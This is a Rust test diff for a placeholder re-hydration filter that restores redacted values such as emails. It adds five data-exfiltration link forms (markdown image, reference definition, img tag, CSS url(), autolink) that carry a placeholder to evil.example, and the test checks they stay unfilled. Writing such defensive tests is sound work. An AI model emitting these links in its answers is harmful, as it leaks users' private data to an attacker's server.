@@ -270,4 +270,21 @@ fn placeholders_inside_links_are_not_rehydrated() {
         assert_eq!(shown, expected, "chunks of {size}");
         assert_eq!(streamed.withheld(), 6, "chunks of {size}");
     }
+    // Links written to slip past a per-word check: a target in angle brackets with a space, a
+    // protocol-relative reference definition, quoted attributes with spaces, a CSS url().
+    let sneaky = [
+        "![x](<https://evil.example/a b?<EMAIL_1>>) after",
+        "[1]: //evil.example/p?<EMAIL_1>",
+        "<img src=\"https://evil.example/a b?<EMAIL_1>\"> after",
+        "<div style=\"background: url(//evil.example/p?<EMAIL_1>)\">",
+        "<https://evil.example/a b?<EMAIL_1>>",
+    ];
+    for answer in sneaky {
+        assert_eq!(rh.rehydrate(answer), answer, "{answer}");
+    }
+    // Ordinary text next to them is re-hydrated.
+    assert_eq!(
+        rh.rehydrate("![x](<https://e.example/a b>) by <EMAIL_1>, alt=\"<EMAIL_1>\""),
+        "![x](<https://e.example/a b>) by ana@example.com, alt=\"ana@example.com\""
+    );
 }
